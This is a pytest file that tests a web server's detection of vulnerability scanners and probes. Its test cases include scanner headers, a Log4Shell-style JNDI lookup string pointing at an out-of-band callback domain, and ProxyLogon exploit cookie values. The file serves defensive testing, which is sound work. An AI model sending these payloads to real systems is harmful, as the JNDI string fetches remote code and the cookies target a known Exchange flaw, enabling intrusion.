"""Scanners known by a header's name or by the marks they leave in headers
and cookies, against a real httpd: the header_names target (Acunetix's
AcuSensor and WebInspect headers), scanner bookkeeping values, out-of-band
callback domains in any header, the ProxyLogon cookies; header names that
ordinary clients and proxies send never flag."""
import time

import header_blocks
import lwhttpd

import pytest


@pytest.fixture
def mpm():
    # Which headers are read does not depend on the MPM: one is enough.
    return "event"


# (header, value, rule id it must get, the field the hit names)
CASES = [
    ("Acunetix-Aspect", "enabled", 600155, "header_names"),
    ("acunetix-aspect-password", "082119f75623eb7abd7bf357698ff66c", 600155,
     "header_names"),
    ("X-WIPP", "AscVersion=22.2.0", 600155, "header_names"),
    ("Acunetix-Aspect-Queries", "filelist;aspectalerts", 600150,
     "header:Acunetix-Aspect-Queries"),
    ("X-Request-Memo", 'ID="1"; ThreadId="2"; SessionType="AuditAttack"',
     600150, "header:X-Request-Memo"),
    ("X-Api-Version", "${jndi:ldap://c6k0abc.oast.fun/a}", 600300,
     "header:X-Api-Version"),
    ("Referer", "http://abc123.OASTIFY.com/ref", 600300, "referer"),
    ("Cookie", "X-AnonResource=true; X-AnonResource-Backend=localhost/ecp/"
     "default.flt?~3; X-BEResource=localhost/owa/auth/logon.aspx?~3",
     700915, "cookie"),
]

# Names of ordinary clients' and proxies' own headers, some close to a
# scanner's, with plain values.
BENIGN = [("X-Request-Id", "4bf92f3577b34da6a3ce929d0e0e4736"),
          ("X-Scanner-Version", "3.1"), ("X-Acunetix", "1"),
          ("X-Memo", "hello"), ("X-Forwarded-For", "203.0.113.7"),
          ("X-Amzn-Trace-Id", "Root=1-67891233-abcdef012345678912345678")]


def attacks(h):
    return [r for r in h.records() if lwhttpd.is_attack(r)]


def send(h, target, headers):
    return h.request("GET %s HTTP/1.1" % target,
                     [("Host", "localhost")] + list(headers))[0]


def test_scanner_header_names_marks_and_callbacks(httpd_factory):
    h = httpd_factory()
    for i, block in enumerate(header_blocks.BLOCKS[:6]):
        assert send(h, "/b/%d" % i, block) is not None
    assert send(h, "/b/names", [("User-Agent", header_blocks.CHROME_UA)]
                + BENIGN) is not None
    for i, (name, value, _rid, _field) in enumerate(CASES):
        send(h, "/a/%d" % i, [("User-Agent", header_blocks.CHROME_UA),
                              (name, value)])
    h.wait_records(len(CASES), pred=lwhttpd.is_attack)
    time.sleep(0.3)
    recs = attacks(h)
    assert [r["uri"] for r in recs] == \
        ["/a/%d" % i for i in range(len(CASES))], \
        [(r["uri"], r["rules"]) for r in recs]
    for rec, (name, value, rid, field) in zip(recs, CASES):
        lwhttpd.check_record(rec)
        hits = [x for x in rec["rules"] if x["id"] == rid]
        assert hits, (name, value, rec["rules"])
        assert hits[0]["field"] == field, (name, hits[0])
        assert {"scanner", "probe"} & set(rec["categories"]), rec
